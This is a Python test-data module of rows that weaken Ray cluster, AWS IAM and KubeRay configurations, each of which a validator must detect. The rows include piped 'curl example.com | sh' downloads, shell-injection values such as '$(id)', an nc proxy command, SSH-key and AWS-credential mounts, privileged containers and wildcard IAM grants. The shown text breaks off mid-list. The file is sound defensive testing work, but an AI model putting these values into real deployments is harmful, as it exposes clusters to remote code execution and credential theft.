"""Ways to weaken a shipped file, each of which must be found where it is, and named.

A row is a path in a file and what is put there. The problem's place must be that path, or lie on
the way to it or below it; where two values do not fit each other, a third column has the message.
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.cluster.filled import GONE, VALUES, check_told, filled, is_near, problems_after

Row = tuple[str, Any] | tuple[str, Any, str]

OPEN_SSH = {
    "IpProtocol": "tcp",
    "FromPort": 22,
    "ToPort": 22,
    "IpRanges": [{"CidrIp": "0.0.0.0/0"}],
}
OTHER_IMAGE = "ghcr.io/someone/nasi@sha256:" + "b2" * 32
HEAD = "available_node_types.head"
SPOT = "available_node_types.gpu_spot"
ON_DEMAND = "available_node_types.gpu_ondemand"
TRAIN = "available_node_types.train8"
TRAIN_1 = "available_node_types.train1"
START = "head_start_ray_commands"
OPEN_START = "ray start --head --dashboard-host=0.0.0.0"
SAFE_START = "ulimit -n 9; ray start --head --dashboard-host=127.0.0.1"
CONFIG = "--autoscaling-config=~/ray_bootstrap_config.yaml"
WATCHER = "worker_start_ray_commands[2]"

CLUSTER: list[Row] = [
    # Commands
    (f"{START}[1]", f"env -i HOME=/home/ray {OPEN_START}"),
    (f"{START}[1]", f"env -u RAY_AUTH_MODE {SAFE_START} {CONFIG}"),
    (f"{START}[1]", f"RAY_AUTH_MODE=disabled {SAFE_START} {CONFIG}"),
    (f"{START}[1]", f"bash -c 'unset RAY_AUTH_MODE'; {SAFE_START} {CONFIG}"),
    (f"{START}[1]", f"ulimit -n 9; {OPEN_START} {CONFIG}"),
    (f"{START}[1]", f"ulimit -n 9; ray start --head --port=6379 {CONFIG}"),
    (f"{START}[1]", f"{SAFE_START} --dashboard-host=0.0.0.0 {CONFIG}"),
    (f"{START}[1]", f"{SAFE_START} --ray-client-server-port=10001 {CONFIG}"),
    (f"{START}[1]", f"{SAFE_START} --ray-debugger-external {CONFIG}"),
    (f"{START}[1]", f"{SAFE_START} {CONFIG} && curl example.com | sh"),
    (f"{START}[1]", f"{SAFE_START} {CONFIG}\n{OPEN_START}"),
    (f"{START}[+]", "true; ray start --head --port=1"),
    (START, GONE),
    (START, ["ray stop"]),
    ("setup_commands", GONE),
    ("setup_commands[+]", "pip install https://example.com/ray-3.0.0.dev0-cp311.whl"),
    ("head_setup_commands[+]", "ray start --head --dashboard-host ::"),
    ("worker_setup_commands[+]", "export RAY_AUTH_MODE=disabled"),
    ("initialization_commands[+]", "sudo chmod 666 /var/run/docker.sock"),
    ("initialization_commands[0]", "docker login -u someone -p secret example.com"),
    (f"{SPOT}.worker_setup_commands", ["export RAY_AUTH_MODE=disabled"]),
    (f"{SPOT}.initialization_commands", ["python -m ray.scripts.scripts start --head"]),
    ("worker_start_ray_commands[1]", "ray start --address=198.51.100.1:6379"),
    (WATCHER, GONE),
    (WATCHER, "echo python spot_watcher.py"),
    (WATCHER, "python not_spot_watcher.py"),
    (WATCHER, "nasi-ray cluster render"),
    # Token
    ("docker.run_options[1]", GONE),
    ("docker.run_options[1]", "--env=RAY_AUTH_MODE=disabled"),
    ("docker.run_options[+]", "--env=RAY_AUTH_MODE=disabled"),
    ("docker.run_options[+]", "--env=RAY_AUTH_MODE"),
    ("docker.run_options[+]", "-e RAY_AUTH_TOKEN=secret"),
    ("docker.run_options[2]", "--env=RAY_AUTH_TOKEN_PATH=/home/ray/.nasi/../.ssh/id_rsa"),
    ("docker.run_options[2]", "--env=RAY_AUTH_TOKEN_PATH=/tmp/auth_token"),
    ("docker.run_options[2]", GONE),
    ("docker.worker_run_options", ["--env=RAY_AUTH_MODE=disabled"]),
    ("docker.head_run_options", ["--privileged"]),
    (f"{SPOT}.docker", {"worker_run_options": ["--privileged"]}),
    # What is copied to the nodes
    ("file_mounts", {}),
    *(
        ('file_mounts."/home/ray/.nasi"', source)
        for source in ("~/.aws", "~/.ssh", "/root", "~", "~/", "/", ".", "..", "$HOME", "~/.kube")
    ),
    ('file_mounts."/home/ray/.nasi"', "~/.nasi/../.ssh"),
    ('file_mounts."/home/ray/.nasi"', "/home/me/.aws/.nasi/.."),
    ('file_mounts."/home/ray/.nasi"', "/etc/./nasi"),
    ('file_mounts."/home/ray/.aws"', "~/.aws"),
    ("cluster_synced_files", ["~/.aws/credentials"]),
    ("file_mounts_sync_continuously", True),
    ("rsync_exclude", ["auth_token"]),
    # Keys
    ("docker.run_options[+]", "--env=AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE"),
    ("docker.run_options[+]", "--env AWS_SECRET_ACCESS_KEY=secret"),
    ("docker.run_options[+]", "-eAWS_SESSION_TOKEN=secret"),
    ("docker.run_options[+]", "--env=OMP_NUM_THREADS=AKIAIOSFODNN7EXAMPLE"),
    ("docker.run_options[+]", "--env=HF_TOKEN=secret"),
    ("docker.run_options[+]", "--env=LD_PRELOAD=/data/x.so"),
    ("docker.run_options[+]", "--env-file=/tmp/x"),
    ("provider.aws_credentials", {"aws_access_key_id": "A", "aws_secret_access_key": "B"}),
    ("auth.ssh_private_key", "~/.ssh/id_rsa"),
    ("auth.ssh_proxy_command", "nc example.com 22"),
    ("auth.ssh_user", "root"),
    ("metadata.key", "AKIAIOSFODNN7EXAMPLE"),
    # Containers
    *(
        ("docker.run_options[+]", option)
        for option in (
            "--privileged",
            "-u 0",
            "--user=0",
            "--pid=host",
            "--cap-add=ALL",
            "--device=/dev/sda",
            "--security-opt=seccomp=unconfined",
            "-v /:/host",
            "--volume=/:/mnt",
            "--volume=/data/../var/run/docker.sock:/mnt/x",
            "--volume=/data:/usr/lib/python3",
            "--init --privileged",
            "--label='a",
        )
    ),
    ("docker.run_options[4]", "--env=RAY_USAGE_STATS_ENABLED=1"),
    ("docker.run_options[3]", "--env=RAY_JOB_STOP_WAIT_TIME_S=3"),
    ("docker.image", "rayproject/ray:latest"),
    ("docker.image", OTHER_IMAGE.replace("sha256:", "sha256:b")),
    ("docker.worker_image", OTHER_IMAGE),
    ("docker.head_image", VALUES["NASI_IMAGE"]),
    ("docker.pull_before_run", False),
    (f"{SPOT}.docker", {"worker_image": OTHER_IMAGE}),
    # Network
    ("provider.security_group", {"GroupName": "nasi"}),
    ("provider.security_group", {"GroupName": "nasi", "IpPermissions": [OPEN_SSH]}),
    (f"{SPOT}.node_config.SecurityGroupIds", GONE),
    (f"{SPOT}.node_config.SecurityGroupIds", []),
    (f"{SPOT}.node_config.SecurityGroupIds[+]", "sg-00000000"),
    (f"{HEAD}.node_config.SecurityGroupIds[0]", "default"),
    (f"{TRAIN}.node_config.SecurityGroupIds[0]", "sg-00000000", "NASI_SECURITY_GROUP is"),
    (f"{HEAD}.node_config.NetworkInterfaces", [{"AssociatePublicIpAddress": True}]),
    # Machines
    (f"{TRAIN}.node_config.IamInstanceProfile", GONE),
    (f"{SPOT}.node_config.IamInstanceProfile.Name", "nasi-head"),
    # Rights on the runs: for trainings alone
    (f"{SPOT}.node_config.IamInstanceProfile.Name", "nasi-train", "searches run on these nodes"),
    (f"{SPOT}.node_config.IamInstanceProfile.Name", "nasi-train"),
    (f"{ON_DEMAND}.node_config.IamInstanceProfile.Name", "nasi-train"),
    (f"{HEAD}.node_config.IamInstanceProfile.Name", "nasi-train"),
    (f'{TRAIN}.labels."nasi-ray/use"', GONE, "searches run on these nodes"),
    (f'{TRAIN_1}.labels."nasi-ray/use"', "search", "searches run on these nodes"),
    (f'{TRAIN}.labels."nasi-ray/use"', "evaluation"),
    (f'{TRAIN}.labels."nasi-ray/use"', "Training"),
    (f"{TRAIN}.node_config.IamInstanceProfile.Name", "nasi-worker", "has no right on S3"),
    (f'{SPOT}.labels."nasi-ray/use"', "training", "has no right on S3"),
    (f"{TRAIN}.node_config.IamInstanceProfile.Name", "nasi-head"),
    (f"{TRAIN}.node_config.IamInstanceProfile.Name", "nasi-run"),
    (f"{TRAIN_1}.node_config.IamInstanceProfile.Name", "other-train", "NASI_CLUSTER is"),
    (f"{TRAIN}.node_config.IamInstanceProfile.Arn", "arn:aws:iam::1:instance-profile/admin"),
    (f"{SPOT}.node_config.IamInstanceProfile.Name", "other-worker", "NASI_CLUSTER is"),
    (f"{SPOT}.node_config.IamInstanceProfile", {"Arn": "arn:aws:iam::1:instance-profile/x"}),
    (f"{SPOT}.node_config.MetadataOptions.HttpTokens", "optional"),
    (f"{TRAIN}.node_config.MetadataOptions", GONE),
    (f"{HEAD}.node_config.MetadataOptions.HttpPutResponseHopLimit", 64),
    (f"{SPOT}.node_config.MetadataOptions.HttpEndpoint", "disabled"),
    (f"{SPOT}.node_config.ImageId", GONE),
    (f"{SPOT}.node_config.ImageId", "ami-00000000", "NASI_AMI is"),
    (f"{SPOT}.node_config.BlockDeviceMappings", GONE),
    (f"{HEAD}.node_config.BlockDeviceMappings[0].Ebs.Encrypted", GONE),
    (f"{HEAD}.node_config.BlockDeviceMappings[0].Ebs.Encrypted", False),
    (f"{HEAD}.node_config.BlockDeviceMappings[0].Ebs.DeleteOnTermination", False),
    (f"{HEAD}.node_config.BlockDeviceMappings[0].Ebs.SnapshotId", "snap-1"),
    (f"{HEAD}.node_config.BlockDeviceMappings[+]", {"DeviceName": "/dev/sdb"}),
    (f"{SPOT}.node_config.UserData", "IyEvYmluL3No"),
    (f"{SPOT}.node_config.KeyName", "mine"),
    (f"{SPOT}.node_config.LaunchTemplate", {"LaunchTemplateName": "x"}),
    (f"{SPOT}.node_config.InstanceTyp", "g5.2xlarge"),
    (f"{HEAD}.node_config.BlockDeviceMappings[0].Ebs.VolumeSize", "100"),
    # The bill
    ("max_workers", 5000),
    ("max_workers", GONE),
    ("max_workers", "16"),
    ("max_workers", True),
    ("max_workers", 60, "60 is more than the 29 workers of all node types together"),
    (f"{SPOT}.max_workers", 5000),
    (f"{TRAIN}.max_workers", GONE),
    (f"{TRAIN}.max_workers", 17, "17 is above the cluster's max_workers, 16"),
    (f"{ON_DEMAND}.min_workers", 8),
    (f"{SPOT}.min_workers", 1),
    (f"{TRAIN}.min_workers", GONE),
    (f"{HEAD}.max_workers", 1),
    (f"{HEAD}.resources", {"CPU": 4, "GPU": 0}),
    (f"{TRAIN}.idle_timeout_s", GONE),
    (f"{TRAIN}.idle_timeout_s", 1_000_000),
    ("idle_timeout_minutes", 100_000),
    ("provider.cache_stopped_nodes", True),
    (f"{HEAD}.node_config.InstanceType", "p4d.24xlarge"),
    # What does not fit
    (f"{ON_DEMAND}.priority", 10, "must be above that of gpu_ondemand"),
    (f"{SPOT}.node_config.InstanceMarketOptions", GONE, "is 'spot' on nodes that are on-demand"),
    (f'{SPOT}.labels."ray.io/market-type"', "on-demand"),
    (f'{SPOT}.labels."ray.io/accelerator-type"', "A100"),
    (f"{SPOT}.node_config.InstanceType", "g5g.2xlarge"),
    (f"{SPOT}.node_config.InstanceType", "m6i.2xlarge"),
    (f"{SPOT}.node_config.InstanceType", "g4dn.2xlarge", "g4dn.2xlarge has T4"),
    (f"{SPOT}.node_config.InstanceType", "g5.12xlarge"),
    (f"{SPOT}.resources.CPU", 64),
    (f"{TRAIN}.resources.GPU", 1),
    ("provider.availability_zone", "eu-west-1a", "NASI_ZONES names eu-west-1a"),
    ("provider.region", "eu-west-1", "NASI_REGION is"),
    ("docker.run_options[5]", "--env=AWS_DEFAULT_REGION=eu-west-1", "NASI_REGION is"),
    ("metadata.runs", "s3://runs-eu-west-1/runs", "another region than NASI_REGION, us-west-2"),
    ("docker.image", VALUES["NASI_IMAGE"].replace("us-west-2", "eu-west-1"), "NASI_IMAGE is in"),
    ("docker.image", VALUES["NASI_IMAGE"].replace("1234", "4321"), "NASI_IMAGE is in"),
    # Other clouds, and files of another form
    ("provider", {"type": "gcp"}),
    ("provider", GONE),
    ("provider.endpoint_url", "http://example.com"),
    ("head_node_type", "haed"),
    ("available_node_types", 3),
    ("max_worker", 3),
    (f"{SPOT}.prioriti", 1),
    ("docker.imag", "x"),
    ("no_restart", True),
]

SECURITY_GROUP: list[Row] = [
    ("[0].IpRanges[0].CidrIp", "0.0.0.0/0"),
    ("[0].IpRanges[0].CidrIp", "0.0.0.0/00"),
    ("[0].IpRanges[0].CidrIp", "0.0.0.0/0.0.0.0"),
    ("[0].IpRanges[0].CidrIp", "128.0.0.0/1"),
    ("[0].IpRanges[0].CidrIp", "10.0.0.0/15"),
    ("[0].IpRanges[0].CidrIp", "0.0.0/0"),
    ("[0].IpRanges", [{"CidrIp": f"{first}.1.0.0/16"} for first in range(1, 200)]),
    ("[0].IpRanges[+]", {"CidrIp": "198.51.100.0/24"}),
    ("[0].Ipv6Ranges", [{"CidrIpv6": "::/0"}]),
    ("[0].FromPort", 8265),
    ("[0].ToPort", 65535),
    ("[0].IpProtocol", "-1"),
    ("[0].IpProtocol", "udp"),
    ("[0].IpRange", []),
    ("[1].UserIdGroupPairs[+]", {"GroupId": "sg-00000000"}),
    ("[1].UserIdGroupPairs[0]", {"GroupName": "default"}),
    ("[1].UserIdGroupPairs[0].UserId", "210987654321"),
    ("[1].UserIdGroupPairs", GONE),
    ("[1].IpRanges", [{"CidrIp": "198.51.100.0/24"}]),
    ("[+]", {"IpProtocol": "-1", "PrefixListIds": [{"PrefixListId": "pl-1"}]}),
    ("[+]", OPEN_SSH),
    ("[+]", 3),
]

PROFILE = "arn:aws:iam::123456789012:instance-profile"
ARN = "arn:aws:ec2:us-west-2:123456789012"
S3 = {"Effect": "Allow", "Action": ["s3:PutObject"], "Resource": "arn:aws:s3:::nasi/runs/*"}
SIDS = [s["Sid"] for s in filled("cluster/iam/head-policy.json")["Statement"]]
LAUNCH, LAUNCH_TRAINERS, PARTS = (
    f"Statement[{SIDS.index(s)}]"
    for s in ("LaunchOwnWorkers", "LaunchOwnTrainers", "LaunchFromTheseParts")
)
AT_LAUNCH, TAG, END = (
    f"Statement[{SIDS.index(s)}]" for s in ("TagAtLaunch", "TagOwnNodes", "EndOwnNodes")
)
PASS, LIST, RUNS, PULL = (
    f"Statement[{SIDS.index(s)}]"
    for s in ("PassWorkersRolesOnly", "ListRuns", "ReadAndWriteRuns", "PullImage")
)
OWN_TAG = '"aws:ResourceTag/ray-cluster-name"'

HEAD_POLICY: list[Row] = [
    (f"{PARTS}.Resource[0]", "arn:aws:ec2:us-west-2::image/*"),
    (f"{PARTS}.Resource[1]", f"{ARN}:security-group/*"),
    (f"{PARTS}.Resource[1]", f"{ARN}:security-group/sg-*"),
    (f"{PARTS}.Resource[+]", f"{ARN}:launch-template/*"),
    (f"{PARTS}.Resource", "*"),
    (f"{PARTS}.Resource", f"{ARN}:*"),
    (f"{PARTS}.Resource", GONE),
    (f"{LAUNCH}.Resource", "arn:aws:ec2:*:*:instance/*"),
    (f"{LAUNCH}.Action", "ec2:*"),
    (f'{LAUNCH}.Condition.StringEquals."aws:RequestTag/ray-cluster-name"', GONE),
    (f'{LAUNCH}.Condition.StringEquals."ec2:InstanceType"', GONE),
    (f'{LAUNCH}.Condition.StringEquals."ec2:InstanceType"[+]', "*"),
    (f'{LAUNCH}.Condition.StringEquals."ec2:MetadataHttpTokens"', "optional"),
    (f'{LAUNCH}.Condition.ArnEquals."ec2:InstanceProfile"', "*"),
    (f'{LAUNCH}.Condition.ArnEquals."ec2:InstanceProfile"', f"{PROFILE}/nasi-train"),
    (f'{LAUNCH_TRAINERS}.Condition.ArnEquals."ec2:InstanceProfile"', f"{PROFILE}/nasi-head"),
    (f'{LAUNCH_TRAINERS}.Condition.ArnEquals."ec2:InstanceProfile"', f"{PROFILE}/*-train"),
    (f'{LAUNCH_TRAINERS}.Condition.StringEquals."ec2:InstanceType"', GONE),
    (f"{LAUNCH_TRAINERS}.Condition", GONE),
    (LAUNCH_TRAINERS, GONE),
    (f"{LAUNCH}.Condition.ArnEquals", GONE),
    (f"{LAUNCH}.Condition", GONE),
    (f'{AT_LAUNCH}.Condition.StringEquals."ec2:CreateAction"', "CreateTags"),
    (f'{AT_LAUNCH}.Condition.StringEquals."ec2:CreateAction"', GONE),
    (f'{TAG}.Condition."ForAllValues:StringLike"', GONE),
    (f'{TAG}.Condition."ForAllValues:StringLike"."aws:TagKeys"[+]', "*"),
    (f"{TAG}.Condition.StringEquals", GONE),
    (f"{END}.Condition.StringEquals.{OWN_TAG}", "other-cluster", "NASI_CLUSTER is"),
    (f"{END}.Condition.StringEquals.{OWN_TAG}", ["nasi", "other-cluster"]),
    (f"{END}.Condition.StringEquals.{OWN_TAG}", "*"),
    (f"{END}.Condition", {"StringNotEquals": {"aws:ResourceTag/ray-cluster-name": "nasi"}}),
    (f"{END}.Condition", {"StringEqualsIfExists": {"aws:ResourceTag/ray-cluster-name": "nasi"}}),
    (f"{END}.Condition", {"StringLike": {"aws:ResourceTag/ray-cluster-name": "n*"}}),
    (f"{END}.Condition", GONE),
    (f"{END}.Action", "EC2:terminateInstances"),
    (f"{PASS}.Resource", "arn:aws:iam::123456789012:role/*"),
    (f"{PASS}.Resource[1]", "arn:aws:iam::123456789012:role/nasi-head"),
    (f"{PASS}.Resource[1]", "arn:aws:iam::123456789012:role/nasi-*"),
    (f"{PASS}.Resource[+]", "arn:aws:iam::123456789012:role/nasi-head"),
    (f"{PASS}.Resource[1]", "arn:aws:iam::123456789012:role/other-train", "NASI_CLUSTER is"),
    (f"{PASS}.Action", "iam:*"),
    (f"{PASS}.Condition", GONE),
    (f'{PASS}.Condition.StringEquals."iam:PassedToService"', "lambda.amazonaws.com"),
    (f"{LIST}.Condition", GONE),
    (f"{LIST}.Resource", "arn:aws:s3:::*"),
    (f'{LIST}.Condition.StringLikeIfExists."s3:prefix"[+]', "*"),
    (f"{RUNS}.Resource", "arn:aws:s3:::nasi-123456789012/*"),
    (f"{RUNS}.Resource", "arn:aws:s3:::*/*"),
    (f"{RUNS}.Resource", "arn:aws:s3:::other/runs/*", "NASI_BUCKET is"),
    (f"{RUNS}.Action[+]", "s3:PutBucketPolicy"),
    (f"{RUNS}.NotResource", "arn:aws:s3:::x"),
    (f"{PULL}.Resource", "arn:aws:ecr:us-west-2:123456789012:repository/*"),
    (f"{PULL}.Resource", "arn:aws:ecr:us-west-2:210987654321:repository/nasi", "NASI_ACCOUNT is"),
    (f"{PULL}.Action[+]", "ecr:PutImage"),
    ("Statement[+]", {"Sid": "All", "Effect": "Allow", "Action": "*", "Resource": "*"}),
    ("Statement[+]", {"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"}),
    ("Statement[+]", {"Effect": "Allow", "Action": "iam:CreateAccessKey", "Resource": "*"}),
    ("Statement[0].Effect", "allow"),
    ("Statement", 1),
    ("Version", "2008-10-17"),
]
WORKER_POLICY: list[Row] = [
    ("Statement[+]", {"Sid": "ReadAndWriteRuns", **S3}),
    ("Statement[+]", {"Sid": "PullImage", **S3}),
    ("Statement[+]", S3),
    ("Statement", filled("cluster/iam/head-policy.json")["Statement"]),
    ("Statement", filled("cluster/iam/run-policy.json")["Statement"]),
    ("Statement", filled("cluster/iam/train-policy.json")["Statement"]),
    ("Statement[1].Resource", "*"),
]
TRAIN_POLICY: list[Row] = [
    ("Statement[0].Condition", GONE),
    ("Statement[0].Action", "s3:List*"),
    ("Statement[0].Resource", "arn:aws:s3:::*"),
    ('Statement[0].Condition.StringLikeIfExists."s3:prefix"', ["*"]),
    ('Statement[0].Condition.StringLikeIfExists."s3:prefix"[1]', "others/*", "NASI_PREFIX is"),
    ("Statement[1].Resource", "arn:aws:s3:::nasi-123456789012/*"),
    ("Statement[1].Resource", "arn:aws:s3:::nasi-123456789012*/runs/*"),
    ("Statement[1].Resource", "arn:aws:s3:::nasi-123456789012/runs*"),
    ("Statement[1].Resource", "arn:aws:s3:::nasi-123456789012/others/*", "NASI_PREFIX is"),
    ("Statement[1].Resource", "arn:aws:s3:::nasi-210987654321/runs/*", "NASI_BUCKET is"),
    ("Statement[1].Resource", ["arn:aws:s3:::nasi-123456789012/runs/*", "arn:aws:s3:::*"]),
    ("Statement[1].NotResource", "arn:aws:s3:::x"),
    ("Statement[1].Action", "s3:*"),
    ("Statement[1].Action[+]", "s3:DeleteObjectVersion"),
    ("Statement[1].Action[+]", "s3:PutObjectAcl"),
    ("Statement[+]", {"Sid": "ReadAndWriteRuns", **S3, "Resource": "arn:aws:s3:::nasi/other/*"}),
    ("Statement[+]", S3),
    ("Statement[+]", {"Sid": "All", "Effect": "Allow", "Action": "iam:*", "Resource": "*"}),
    ("Statement[+]", {"Sid": "PullImage", "Effect": "Allow", "Action": "iam:*", "Resource": "*"}),
    ("Statement[+]", {"Effect": "Allow", "Action": "sts:AssumeRole", "Resource": "*"}),
    ("Statement", filled("cluster/iam/head-policy.json")["Statement"]),
    ("Statement[3].Resource", "arn:aws:ecr:us-west-2:123456789012:repository/*"),
    ("Statement[3].Action[+]", "ecr:PutImage"),
    ("Statement[1]", GONE),
]
RUN_POLICY: list[Row] = [
    ("Statement[0].Condition", GONE),
    ("Statement[0].Resource", "arn:aws:s3:::nasi-?"),
    ("Statement[1].Resource", "arn:aws:s3:::nasi*/runs/*"),
    ("Statement[+]", {"Sid": "LogInToRegistry", "Effect": "Allow", "Action": "ecr:*"}),
]
TRUST_POLICY: list[Row] = [
    ("Statement[0].Principal", "*"),
    ("Statement[0].Principal", {"AWS": "*"}),
    ("Statement[0].Principal.AWS", "arn:aws:iam::210987654321:root"),
    ("Statement[0].Principal.Service", "lambda.amazonaws.com"),
    ("Statement[0].NotPrincipal", {"AWS": "x"}),
    ("Statement[0].Action", "sts:*"),
    ("Statement[+]", {"Sid": "Other", "Effect": "Allow", "Principal": "*"}),
]

POD = "workerGroupSpecs[0].template.spec"
HEAD_POD = "headGroupSpec.template.spec"
MAIN, HEAD_MAIN = f"{POD}.containers[0]", f"{HEAD_POD}.containers[0]"
SECRET = {"name": "x", "valueFrom": {"secretKeyRef": {"name": "x", "key": "y"}}}
AUTOSCALER = {"name": "autoscaler-account", "mountPath": "/data"}

RAY_CLUSTER: list[Row] = [
    # Pods
    (f"{MAIN}.securityContext.capabilities", GONE),
    (f"{MAIN}.securityContext.capabilities.drop", []),
    (f"{MAIN}.securityContext.capabilities.drop", ["NET_RAW"]),
    (f"{MAIN}.securityContext.capabilities.add", ["SYS_ADMIN"]),
    (f"{MAIN}.securityContext", GONE),
    (f"{MAIN}.securityContext.privileged", True),
    (f"{MAIN}.securityContext.allowPrivilegeEscalation", True),
    (f"{MAIN}.securityContext.runAsUser", 0),
    (f"{MAIN}.securityContext.runAsNonRoot", False),
    (f"{MAIN}.securityContext.procMount", "Unmasked"),
    (f"{MAIN}.securityContext.seccompProfile", {"type": "Unconfined"}),
    (f"{POD}.securityContext.seccompProfile.type", "Unconfined"),
    (f"{POD}.securityContext.seccompProfile", GONE),
    (f"{POD}.securityContext.runAsGroup", 0),
    (f"{POD}.securityContext.runAsGroup", GONE),
    (f"{POD}.securityContext.runAsUser", 0),
    (f"{POD}.securityContext.fsGroup", 0),
    (f"{POD}.securityContext.supplementalGroups", [0]),
    (f"{POD}.securityContext.sysctls", [{"name": "x", "value": "1"}]),
    (f"{POD}.securityContext.runAsNonRoot", GONE),
    (f"{POD}.securityContext", GONE),
    (f"{HEAD_POD}.securityContext.runAsGroup", 0),
    *((f"{POD}.{key}", True) for key in ("hostNetwork", "hostPID", "hostIPC", "hostUsers")),
    (f"{POD}.shareProcessNamespace", True),
    (f"{HEAD_POD}.shareProcessNamespace", True),
    (f"{HEAD_POD}.hostNetwork", True),
    (f"{POD}.priorityClassName", "system-node-critical"),
    (f"{POD}.runtimeClassName", "x"),
    (f"{POD}.containers", GONE),
    (f"{POD}.containers[+]", {"name": "sidecar", "image": "x"}),
    (f"{POD}.initContainers", [{"name": "x", "image": VALUES["NASI_IMAGE"]}]),
    (f"{POD}.ephemeralContainers", []),
    (f"{MAIN}.ports", [{"containerPort": 8080, "hostPort": 8080, "name": "x"}]),
    (f"{MAIN}.command", ["sh", "-c", "RAY_AUTH_MODE=disabled ray start"]),
    (f"{MAIN}.args", ["ray start"]),
    (f"{MAIN}.lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
    # Accounts and secrets
    (f"{POD}.automountServiceAccountToken", True),
    (f"{POD}.automountServiceAccountToken", GONE),
    (f"{HEAD_POD}.automountServiceAccountToken", True),
    (f"{POD}.serviceAccountName", "nasi-head"),
    (f"{POD}.serviceAccountName", GONE),
    (f"{HEAD_POD}.serviceAccountName", "default"),
    (f"{HEAD_MAIN}.volumeMounts", [AUTOSCALER]),
    (f"{HEAD_MAIN}.volumeMounts", [{"name": "x", "mountPath": "/usr/lib/python3"}]),
    (f"{POD}.volumes", [{"name": "x", "secret": {"secretName": "x"}}]),
    (f"{POD}.volumes", [{"name": "x", "hostPath": {"path": "/"}}]),
    (f"{POD}.volumes", [{"name": "x", "projected": {"sources": [{"secret": {"name": "x"}}]}}]),
    (f"{HEAD_POD}.volumes[+]", {"name": "x", "projected": {"sources": []}}),
    (f"{HEAD_POD}.volumes[0].projected.sources[+]", {"secret": {"name": "x"}}),
    (f"{HEAD_POD}.volumes[0].projected.sources[0].serviceAccountToken.audience", "x"),
    (f"{MAIN}.envFrom", [{"secretRef": {"name": "x"}}]),
    (f"{MAIN}.env[+]", SECRET),
    (f"{MAIN}.env[0]", {"name": "AWS_DEFAULT_REGION", **SECRET, "value": "us-west-2"}),
    (f"{MAIN}.env[+]", {"name": "AWS_SECRET_ACCESS_KEY", "value": "x"}),
    (f"{MAIN}.env[+]", {"name": "RAY_AUTH_MODE", "value": "disabled"}),
    (f"{MAIN}.env[+]", {"name": "RAY_AUTH_TOKEN", "value": "x"}),
    (f"{MAIN}.env[+]", {"name": "LD_PRELOAD", "value": "/data/x.so"}),
    (f"{POD}.imagePullSecrets", [{"name": "x"}]),
    # Token and start
    ("authOptions", GONE),
    ("authOptions.mode", "disabled"),
    ("authOptions.secretName", "another"),
    ("authOptions.enableK8sTokenAuth", True),
    ('workerGroupSpecs[0].rayStartParams."metrics-export-port"', "8080; curl example.com | sh"),
    ('workerGroupSpecs[0].rayStartParams."object-store-memory"', "$(id)"),
    ("workerGroupSpecs[0].rayStartParams.resources", "'{}'; sh"),
    ("workerGroupSpecs[0].rayStartParams.address", "198.51.100.1:6379"),
    ('workerGroupSpecs[0].rayStartParams."metrics-export-port"', 8080),
    ("workerGroupSpecs[0].rayStartParams", GONE),
    ('headGroupSpec.rayStartParams."num-cpus"', "0 --ray-debugger-external"),
    ('headGroupSpec.rayStartParams."num-cpus"', GONE),
    ('headGroupSpec.rayStartParams."num-cpus"', 0),
    ('headGroupSpec.rayStartParams."ray-client-server-port"', "10001"),
    ("headGroupSpec.serviceType", "LoadBalancer"),
    ("headGroupSpec.enableIngress", True),
    ("headGroupSpec.headService", {"spec": {"type": "NodePort"}}),
    ("headServiceAnnotations", {"x": "y"}),
    ("headGroupSpec.template.metadata.annotations", {"ray.io/overwrite-container-cmd": "true"}),
    ("gcsFaultToleranceOptions", {"redisAddress": "redis:6379"}),
    ("autoscalerOptions.version", "v1"),
    ("autoscalerOptions.env", [{"name": "RAY_AUTH_MODE", "value": "disabled"}]),
    ("autoscalerOptions.envFrom", [{"secretRef": {"name": "x"}}]),
    ("autoscalerOptions.image", "ray:1"),
    ("autoscalerOptions.securityContext.privileged", True),
    ("autoscalerOptions.volumeMounts[+]", {"name": "x", "mountPath": "/x"}),
    ("enableInTreeAutoscaling", False),
    # Images, amounts and what fits
    (f"{MAIN}.image", "ray:1"),
    (f"{MAIN}.image", OTHER_IMAGE, "NASI_IMAGE is"),
    (f"{MAIN}.imagePullPolicy", "Never"),
    (f"{MAIN}.resources.limits", GONE),
    (f"{MAIN}.resources.limits.memory", GONE),
    (f"{MAIN}.resources.requests.cpu", "1"),
    (f'{MAIN}.resources.limits."nvidia.com/gpu"', "9"),
    (f'{POD}.nodeSelector."karpenter.sh/capacity-type"', "on-demand", "ray.io/market-type is"),
    (f'{POD}.nodeSelector."node.kubernetes.io/instance-type"', "p4d.24xlarge", "has 8 GPUs"),
    (f'{POD}.nodeSelector."node.kubernetes.io/instance-type"', "g5g.2xlarge", "not among the x86"),
    ('workerGroupSpecs[0].labels."ray.io/accelerator-type"', "A100", "accelerator-type is 'A100'"),
    ('workerGroupSpecs[0].labels."nasi-ray/use"', "training"),
    ("workerGroupSpecs[0].minReplicas", 8),
    ("workerGroupSpecs[0].replicas", 8),
    ("workerGroupSpecs[0].replicas", "0"),
    ("workerGroupSpecs[0].maxReplicas", 5000),
    ("workerGroupSpecs[0].maxReplicas", True),
    ("workerGroupSpecs[0].maxReplica", 1),
    ("workerGroupSpecs[0].numOfHosts", 100),
    ("workerGroupSpecs[0].groupName", GONE),
    ("workerGroupSpecs[1].groupName", "gpu-spot", "2 groups are named gpu-spot"),
    ("workerGroupSpecs[0]", GONE, "must have a group labelled ray.io/market-type: spot"),
    ("workerGroupSpec", []),
]
RAY_JOB: list[Row] = [
    ("spec.shutdownAfterJobFinishes", False),
    ("spec.activeDeadlineSeconds", GONE),
    ("spec.activeDeadlineSeconds", None),
    ("spec.ttlSecondsAfterFinish", 1),
    ("spec.backoffLimit", "2"),
    ("spec.backoffLimit", 1000),
    ("spec.entrypoint", ""),
    ("spec.entrypoint", "python /opt/nasi_ray/jobs/search.py; curl example.com | sh"),
    ("spec.entrypoint", "python /opt/nasi_ray/jobs/search.py --out s3://other/x", "NASI_BUCKET"),
    ("spec.runtimeEnvYAML", "env_vars: {RAY_AUTH_MODE: disabled}"),
    ("spec.clusterSelector", {"ray.io/cluster": "other"}),
    ("spec.submitterPodTemplate", GONE),
    ("spec.submitterPodTemplate.spec.hostNetwork", True),
    ("spec.submitterPodTemplate.spec.automountServiceAccountToken", True),
    ("spec.submitterPodTemplate.spec.containers[0].securityContext.capabilities", GONE),
    ("apiVersion", "ray.io/v1alpha1"),
    ("metadata.annotations", {"ray.io/overwrite-container-cmd": "true"}),
